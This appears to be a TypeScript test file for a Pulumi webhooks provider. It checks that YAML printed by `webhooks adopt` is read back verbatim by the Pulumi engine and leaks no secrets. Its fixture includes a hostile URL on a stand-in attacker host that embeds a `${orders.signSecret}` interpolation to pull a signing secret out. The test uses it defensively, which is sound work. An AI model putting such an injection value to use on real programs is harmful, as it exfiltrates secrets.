// The YAML `webhooks adopt` prints, proven by its real consumer (docs/adopt-output.md): pasted
// into a Pulumi YAML program and previewed by the engine (the YAML language host and the native
// plugin `pulumi-resource-webhooks` from the packed package), each endpoint's inputs as the engine
// sees them are exactly the service's name and URL, and its import finds no difference. The
// provider's check refuses many hostile names and URLs (control characters, non-canonical URLs), and
// a preview stops at the first refusal: so every printed value is also read by the engine as a stack
// output (the printed scalars, verbatim, under `outputs:`), the same Pulumi YAML evaluation without
// the provider. The corpus is the property test's (test/cli/hostile.ts) plus endpoints the check
// accepts more often, sampled with a fixed seed (ADOPT_YAML_SEED to change it); many endpoints go
// into each program, since an engine run costs seconds.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Emulator } from "../../src/emulator";
import { runProcess } from "../../scripts/harness/process.mjs";
import { TOKEN } from "../cli/helpers";
import { readAdoptYaml } from "../cli/consumers";
import { checkableEndpoint, emulatorHolding, expectedTreatment, hostileEndpoint } from "../cli/hostile";
import { BASE_DIR } from "./paths";
import { Project, backendFor, leaks, readTree, transcript } from "./support";

const SEED = Number(process.env.ADOPT_YAML_SEED ?? 20260120);
const SAMPLED = { hostile: 300, checkable: 300 };
/** Endpoints per program: one preview each. */
const BATCH = 40;
/** Programs of endpoints the provider's check accepts (each preview must succeed). */
const CLEAN_PROGRAMS = 3;
const WEBHOOKS_BIN = join(BASE_DIR, "node_modules", ".bin", "webhooks");

/**
 * A program with a resource `orders`, and another team's endpoints whose name or URL holds `${...}`, one
 * naming its secret.
 */
const FINDING = [
  { name: "orders", url: "https://example.com/hooks/orders" },
  { name: "hook", url: "https://attacker.example/hook?k=${orders.signSecret}" },
  { name: "${nothing}", url: "https://example.com/hooks/x?a=$$&b=$${orders.signSecret}&c=$" },
];

interface PreviewJson {
  steps?: { op: string; urn: string; newState?: { importID?: string; inputs?: Record<string, unknown> } }[];
  diagnostics?: { message: string; severity: string; urn?: string }[];
}

describe("adopt's YAML, pasted into a program and previewed by the engine", () => {
  const endpoints = [
    ...FINDING,
    ...fc.sample(hostileEndpoint, { seed: SEED, numRuns: SAMPLED.hostile }),
    ...fc.sample(checkableEndpoint, { seed: SEED + 1, numRuns: SAMPLED.checkable }),
  ];
  let emulator: Emulator;
  let project: Project;
  let backend: ReturnType<typeof backendFor>;
  const figures = {
    sampled: endpoints.length,
    refusedByAdopt: 0,
    declared: 0,
    importedInPreview: 0,
    readAsOutputs: 0,
    engineRuns: 0,
    engineSeconds: 0,
  };

  beforeAll(async () => {
    emulator = await emulatorHolding(endpoints);
    backend = backendFor("adopt-yaml");
    const dir = join(BASE_DIR, "projects", "adopt-yaml");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "Pulumi.yaml"), "name: adopt-yaml\nruntime: yaml\n");
    // The installed package's bins first on PATH: the engine finds the plugin there.
    project = new Project(dir, {
      env: { ...backend.env, PATH: `${join(BASE_DIR, "node_modules", ".bin")}:${process.env.PATH ?? ""}` },
      transcript,
    });
    await project.initStack("dev", { "webhooks:baseUrl": emulator.url }, { "webhooks:accessToken": TOKEN });
  });
  afterAll(async () => {
    console.log(`adopt-yaml engine corpus (seed ${SEED}): ${JSON.stringify(figures)}`);
    await emulator?.close();
  });

  /**
   * `webhooks adopt --format yaml` for these ids, run as a person runs it (outside any project: the
   * connection from the environment).
   */
  async function adoptYaml(ids: number[]) {
    const result = await runProcess(
      WEBHOOKS_BIN,
      ["adopt", ...ids.flatMap((id) => ["--id", String(id)]), "--format", "yaml"],
      {
        cwd: BASE_DIR,
        env: { WEBHOOKS_BASE_URL: emulator.url, WEBHOOKS_ACCESS_TOKEN: TOKEN, NO_COLOR: "1" },
      },
    );
    transcript.push(`$ webhooks adopt ... --format yaml (exit ${result.code})\n${result.output}`);
    return result;
  }

  /** Runs the engine, counting the runs and their time for the report. */
  async function engine(args: string[]) {
    const started = Date.now();
    const result = await project.run(args);
    figures.engineRuns += 1;
    figures.engineSeconds = Math.round(figures.engineSeconds * 10 + (Date.now() - started) / 100) / 10;
    return result;
  }

  /** The printed block pasted into the program, previewed: the engine's inputs and resource name per endpoint id. */
  async function preview(printed: string) {
    writeFileSync(join(project.dir, "Pulumi.yaml"), `name: adopt-yaml\nruntime: yaml\n${printed}`);
    const result = await engine(["preview", "--json"]);
    const parsed = JSON.parse(result.stdout) as PreviewJson;
    const byId = new Map<number, { op: string; urn: string; inputs: Record<string, unknown> }>();
    for (const step of parsed.steps ?? []) {
      const id = step.newState?.importID;
      if (id !== undefined && id !== "")
        byId.set(Number(id), { op: step.op, urn: step.urn, inputs: step.newState?.inputs ?? {} });
    }
    return {
      code: result.code,
      byId,
      diagnostics: parsed.diagnostics ?? [],
      output: result.stdout + result.stderr,
    };
  }

  const ids = () => endpoints.map((_, i) => i + 1);
  let refused = new Set<number>();
  let checkWarned = new Set<number>();
  let printedAll = "";

  it("adopt refuses exactly the endpoints holding the token or a lone surrogate, naming each", async () => {
    const all = await adoptYaml(ids());
    expect(all.code).toBe(0);
    printedAll = all.stdout;
    refused = new Set(
      [...all.stderr.matchAll(/warning: endpoint (\d+) gets no Pulumi YAML declaration/g)].map((m) =>
        Number(m[1]),
      ),
    );
    checkWarned = new Set(
      [
        ...all.stderr.matchAll(
          /warning: endpoint (\d+) cannot be declared exactly as the service stores it/g,
        ),
      ].map((m) => Number(m[1])),
    );
    expect([...refused].sort((a, b) => a - b)).toEqual(
      ids().filter((id) => expectedTreatment(endpoints[id - 1]!) !== "declared"),
    );
    figures.refusedByAdopt = refused.size;
    figures.declared = endpoints.length - refused.size;
    expect(leaks([TOKEN], [all.output])).toEqual([]);
  });

  it("a URL holding ${orders.signSecret} beside a resource `orders`: the import sees no difference, the URL holds it as text, no secret is printed", async () => {
    const printed = await adoptYaml([1, 2, 3]);
    const result = await preview(printed.stdout);
    expect(result.code, result.output).toBe(0);
    for (const id of [1, 2, 3]) {
      expect(result.byId.get(id)?.op).toBe("import");
      expect(result.byId.get(id)?.inputs).toEqual({
        webhookName: FINDING[id - 1]!.name,
        webhookUrl: FINDING[id - 1]!.url,
      });
    }
    expect(leaks([TOKEN, ...emulator.records().map((r) => r.sign_secret)], [result.output])).toEqual([]);
  });

  it(`${CLEAN_PROGRAMS} programs of ${BATCH} endpoints the provider's check accepts: every import succeeds with exactly the service's values`, async () => {
    const clean = ids().filter((id) => id > FINDING.length && !refused.has(id) && !checkWarned.has(id));
    expect(clean.length).toBeGreaterThanOrEqual(CLEAN_PROGRAMS * BATCH);
    for (let program = 0; program < CLEAN_PROGRAMS; program++) {
      const batch = clean.slice(program * BATCH, (program + 1) * BATCH);
      const printed = await adoptYaml(batch);
      expect(printed.code).toBe(0);
      const result = await preview(printed.stdout);
      expect(result.code, result.output.slice(-4000)).toBe(0);
      // The resource name the engine uses is the key as printed.
      const keys = new Map(readAdoptYaml(printed.stdout).map((r) => [Number(r.import), r.key]));
      for (const id of batch) {
        const endpoint = endpoints[id - 1]!;
        const step = result.byId.get(id);
        expect({ id, op: step?.op, inputs: step?.inputs }).toEqual({
          id,
          op: "import",
          inputs: { webhookName: endpoint.name, webhookUrl: endpoint.url },
        });
        expect(step?.urn.endsWith(`::${keys.get(id)}`)).toBe(true);
      }
      figures.importedInPreview += batch.length;
    }
  });

  it("every declared endpoint's printed name and URL, read by the engine as stack outputs, are the service's exactly", async () => {
    // The scalars exactly as printed (after `webhookName: ` and `webhookUrl: `), each under an output named
    // after its id.
    const lines = printedAll.split("\n");
    const outputs: string[] = [];
    const expected: Record<string, string> = {};
    for (let i = 0; i < lines.length; i++) {
      const id = /^ {2}"[^"]*": # endpoint (\d+)$/.exec(lines[i]!)?.[1];
      if (id === undefined) continue;
      const name = /^ {6}webhookName: (".*")$/.exec(lines[i + 3]!)?.[1];
      const url = /^ {6}webhookUrl: (".*")$/.exec(lines[i + 4]!)?.[1];
      expect({ id, name: name !== undefined, url: url !== undefined }).toEqual({ id, name: true, url: true });
      outputs.push(`  name${id}: ${name}`, `  url${id}: ${url}`);
      expected[`name${id}`] = endpoints[Number(id) - 1]!.name;
      expected[`url${id}`] = endpoints[Number(id) - 1]!.url;
    }
    expect(outputs.length / 2).toBe(figures.declared);
    writeFileSync(
      join(project.dir, "Pulumi.yaml"),
      `name: adopt-yaml\nruntime: yaml\noutputs:\n${outputs.join("\n")}\n`,
    );
    const up = await engine(["up", "--yes", "--skip-preview"]);
    expect(up.code, up.output.slice(-4000)).toBe(0);
    const read = await engine(["stack", "output", "--json"]);
    expect(JSON.parse(read.stdout)).toEqual(expected);
    figures.readAsOutputs = outputs.length / 2;
  });

  it("nothing secret appears anywhere the runs left", () => {
    expect(
      leaks([TOKEN, ...emulator.records().map((r) => r.sign_secret)], [...transcript, readTree(backend.dir)]),
    ).toEqual([]);
  });
});
